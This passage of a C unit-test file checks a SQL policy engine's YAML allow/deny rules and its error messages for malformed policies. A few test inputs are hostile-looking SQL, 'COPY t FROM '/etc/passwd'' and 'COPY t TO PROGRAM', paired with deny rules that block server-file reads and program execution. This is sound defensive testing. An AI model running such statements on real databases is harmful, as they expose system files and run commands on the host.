		{ .what = "namespace is not a glob match", .who = &wrong_ns, .sql = "SELECT 1",
		  .action = POLICY_ALLOW, .rule = NULL },
		{ .what = "office client", .who = &alice, .sql = "SELECT 1", .action = POLICY_ALLOW,
		  .rule = NULL },
	};

	CHECK_ALL(yaml, NULL, cases);
}

Test(policy, where_present_and_statement_kinds_combine_per_op)
{
	static const char yaml[] =
		"rules:\n"
		"  - {name: no-unscoped-delete, match: {statements: delete, where: absent}, "
		"action: deny}\n"
		"  - {name: audit-scoped-update, match: {statements: update, where: present}, "
		"action: audit}\n";
	static const struct decide_case cases[] = {
		/* The delete is scoped and the unscoped op is an update: no match. */
		{ .what = "per op", .who = &alice,
		  .sql = "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING id) UPDATE u SET a = 1",
		  .action = POLICY_ALLOW, .rule = NULL },
		{ .what = "unscoped delete", .who = &alice, .sql = "DELETE FROM t",
		  .action = POLICY_DENY, .rule = "no-unscoped-delete" },
		{ .what = "scoped update audited", .who = &alice,
		  .sql = "UPDATE t SET a = 1 WHERE id = 1", .action = POLICY_ALLOW, .rule = NULL,
		  .audit = "audit-scoped-update" },
		{ .what = "constant where is not present", .who = &alice,
		  .sql = "UPDATE t SET a = 1 WHERE 1 = 1", .action = POLICY_ALLOW, .rule = NULL },
	};

	CHECK_ALL(yaml, NULL, cases);
}

Test(policy, tables_patterns_match_part_by_part)
{
	static const char yaml[] =
		"rules:\n"
		"  - {name: r, match: {tables: [\"pay*\", \"hr.salar?\", \"app.audit.*\"]}, "
		"action: deny}\n";
	static const struct decide_case cases[] = {
		{ .what = "bare glob", .who = &alice, .sql = "SELECT * FROM payments",
		  .action = POLICY_DENY, .rule = "r" },
		{ .what = "bare glob, any schema", .who = &alice, .sql = "SELECT * FROM x.payroll",
		  .action = POLICY_DENY, .rule = "r" },
		{ .what = "bare glob is the last part only", .who = &alice,
		  .sql = "SELECT * FROM pay.t", .action = POLICY_ALLOW, .rule = NULL },
		{ .what = "qualified", .who = &alice, .sql = "SELECT * FROM hr.salary",
		  .action = POLICY_DENY, .rule = "r" },
		{ .what = "qualified needs the schema", .who = &alice,
		  .sql = "SELECT * FROM salary", .action = POLICY_ALLOW, .rule = NULL },
		{ .what = "qualified, other schema", .who = &alice,
		  .sql = "SELECT * FROM hr2.salary", .action = POLICY_ALLOW, .rule = NULL },
		{ .what = "three parts", .who = &alice, .sql = "SELECT * FROM app.audit.log",
		  .action = POLICY_DENY, .rule = "r" },
		{ .what = "three parts, two given", .who = &alice, .sql = "SELECT * FROM audit.log",
		  .action = POLICY_ALLOW, .rule = NULL },
	};

	CHECK_ALL(yaml, NULL, cases);
}

Test(policy, match_keys_combine_with_and)
{
	static const char yaml[] =
		"rules:\n"
		"  - {name: r, match: {statements: delete, tables: orders}, action: deny}\n";
	static const struct decide_case cases[] = {
		{ .what = "both", .who = &alice, .sql = "DELETE FROM orders WHERE id = 1",
		  .action = POLICY_DENY, .rule = "r" },
		{ .what = "table only", .who = &alice, .sql = "SELECT * FROM orders",
		  .action = POLICY_ALLOW, .rule = NULL },
		{ .what = "kind only", .who = &alice, .sql = "DELETE FROM t WHERE id = 1",
		  .action = POLICY_ALLOW, .rule = NULL },
	};

	CHECK_ALL(yaml, NULL, cases);
}

Test(policy, opaque_and_copy_server_file)
{
	static const char yaml[] =
		"rules:\n"
		"  - {name: no-code, match: {opaque: true}, action: deny}\n"
		"  - name: no-server-files\n"
		"    match: {copy: [program, server_file]}\n"
		"    action: deny\n";
	static const struct decide_case cases[] = {
		{ .what = "do", .who = &alice, .sql = "DO $$ BEGIN NULL; END $$",
		  .action = POLICY_DENY, .rule = "no-code" },
		{ .what = "plpgsql body", .who = &alice,
		  .sql = "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
		  .action = POLICY_DENY, .rule = "no-code" },
		{ .what = "begin atomic is parsed", .who = &alice,
		  .sql = "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; END",
		  .action = POLICY_ALLOW, .rule = NULL },
		{ .what = "server file", .who = &alice, .sql = "COPY t FROM '/etc/passwd'",
		  .action = POLICY_DENY, .rule = "no-server-files" },
		{ .what = "program", .who = &alice, .sql = "COPY t TO PROGRAM 'x'",
		  .action = POLICY_DENY, .rule = "no-server-files" },
		{ .what = "stdin", .who = &alice, .sql = "COPY t FROM STDIN",
		  .action = POLICY_ALLOW, .rule = NULL },
	};

	CHECK_ALL(yaml, NULL, cases);
}

/* --- refusals -------------------------------------------------------------------------- */

static void assert_refused(const char *yaml, unsigned line, const char *word)
{
	char err[ERR_LEN], prefix[64];
	struct policy *p = compile(yaml, err);

	cr_assert_null(p, "accepted:\n%s", yaml);
	snprintf(prefix, sizeof(prefix), FILE_NAME ":%u: ", line);
	cr_assert(strncmp(err, prefix, strlen(prefix)) == 0, "error '%s' should start '%s'", err,
		  prefix);
	cr_assert(strstr(err, word), "error '%s' should mention '%s'", err, word);
}

Test(policy_load, unknown_action_is_refused)
{
	assert_refused("rules:\n"
		       "  - name: a\n"
		       "    action: block\n", 3, "unknown action 'block'");
}

Test(policy_load, unknown_statement_kind_is_refused)
{
	assert_refused("rules:\n"
		       "  - name: a\n"
		       "    match:\n"
		       "      statements: [drop,\n"
		       "                   dorp]\n"
		       "    action: deny\n", 5, "unknown statement kind 'dorp'");
}

Test(policy_load, unknown_selector_is_refused)
{
	assert_refused("rules:\n"
		       "  - name: a\n"
		       "    who: {commm: psql}\n"
		       "    action: deny\n", 3, "unknown selector 'commm'");
}

Test(policy_load, unknown_where_value_is_refused)
{
	assert_refused("rules:\n"
		       "  - name: a\n"
		       "    match: {statements: delete, where: none}\n"
		       "    action: deny\n", 3, "unknown word 'none'");
}

Test(policy_load, where_without_delete_or_update_is_refused)
{
	assert_refused("rules:\n"
		       "  - name: a\n"
		       "    match: {statements: drop, where: absent}\n"
		       "    action: deny\n", 2, "delete and update only");
}

Test(policy_load, duplicate_rule_name_is_refused_at_the_second)
{
	assert_refused("rules:\n"
		       "  - name: a\n"
		       "    action: deny\n"
		       "  - name: b\n"
		       "    action: deny\n"
		       "  - name: a\n"
		       "    action: allow\n", 6, "duplicate rule name 'a' (rules[0])");
}

Test(policy_load, missing_name_is_refused)
{
	assert_refused("rules:\n"
		       "  - name: a\n"
		       "    action: deny\n"
		       "  - match: {statements: drop}\n"
		       "    action: deny\n", 4, "rules[1]: missing required key 'name'");
}

Test(policy_load, missing_action_is_refused)
{
	assert_refused("rules:\n"
		       "  - name: a\n", 2, "missing required key 'action'");
}

Test(policy_load, bad_glob_is_refused)
{
	assert_refused("rules:\n"
		       "  - name: a\n"
		       "    match: {tables: [ok, \"sec[ret\"]}\n"
		       "    action: deny\n", 3, "'[' is never closed");
	assert_refused("rules:\n"
		       "  - name: a\n"
		       "    who: {comm: \"ab\\\\\"}\n"
		       "    action: deny\n", 3, "ends in '\\'");
}

Test(policy_load, bad_names_are_refused)
{
	assert_refused("rules:\n"
		       "  - name: a\n"
		       "    match: {tables: \"billing.\"}\n"
		       "    action: deny\n", 3, "empty part");
	assert_refused("rules:\n"
		       "  - name: a\n"
		       "    match: {functions: a.b.c.d}\n"
		       "    action: deny\n", 3, "at most database.schema.name");
}

Test(policy_load, bad_cidr_is_refused)
{
	assert_refused("rules:\n"
		       "  - name: a\n"
		       "    who:\n"
		       "      client: [10.0.0.0/8, 10.0.0.0/33]\n"
		       "    action: deny\n", 4, "bad cidr '10.0.0.0/33'");
}

Test(policy_load, bad_uid_is_refused)
{
	assert_refused("rules:\n"
		       "  - name: a\n"
		       "    who: {uid: root}\n"
		       "    action: deny\n", 3, "not a numeric id");
	assert_refused("rules:\n"
		       "  - name: a\n"
		       "    who: {gid: 4294967296}\n"
		       "    action: deny\n", 3, "not a numeric id");
}

Test(policy_load, unknown_keys_are_refused)
{
	assert_refused("rules:\n"
		       "  - name: a\n"
		       "    acton: deny\n", 3, "unknown key 'acton'");
	assert_refused("rules:\n"
		       "  - name: a\n"
		       "    match: {table: t}\n"
		       "    action: deny\n", 3, "unknown key 'table'");
	assert_refused("rules:\n"
		       "  - name: a\n"
		       "    match: {copy: pipe}\n"
		       "    action: deny\n", 3, "unknown word 'pipe'");
	assert_refused("rules:\n"
		       "  - name: a\n"
		       "    match: {opaque: false}\n"
		       "    action: deny\n", 3, "only 'true'");
}

Test(policy_load, malformed_shapes_are_refused)
{
	assert_refused("rules: {name: a}\n", 1, "rules must be a list");
	assert_refused("rules:\n  - just-a-word\n", 2, "rules[0] must be a mapping");
	assert_refused("rules:\n"
		       "  - name: a\n"
		       "    match: {tables: []}\n"
		       "    action: deny\n", 3, "empty list");
	assert_refused("rules:\n"
		       "  - name: a\n"
		       "    who: {}\n"
		       "    action: deny\n", 3, "who is empty");
	assert_refused("rules:\n"
		       "  - name: a\n"
		       "    match: {where: absent, where: present}\n"
		       "    action: deny\n", 3, "duplicate key 'where'");
	assert_refused("rules:\n"
		       "  - name: [a]\n"
		       "    action: deny\n", 2, "single value");
	assert_refused("rules:\n"
		       "  - name: \"\"\n"
		       "    action: deny\n", 2, "empty");
	assert_refused("rules:\n"
		       "  - name: a\n"
		       "    who: {comm: {x: 1}}\n"
		       "    action: deny\n", 3, "single value");
}

Test(policy_load, error_buffer_may_be_absent)
{
	yaml_parser_t parser;
	yaml_document_t doc;
	struct policy *p = (struct policy *)1;

	cr_assert(yaml_parser_initialize(&parser));
	yaml_parser_set_input_string(&parser, (const unsigned char *)"[1]", 3);
	cr_assert(yaml_parser_load(&parser, &doc));
	cr_assert_eq(policy_parse(&doc, yaml_document_get_root_node(&doc), "x", &p, NULL, 0), -1);
	cr_assert_null(p);
	yaml_document_delete(&doc);
	yaml_parser_delete(&parser);
}
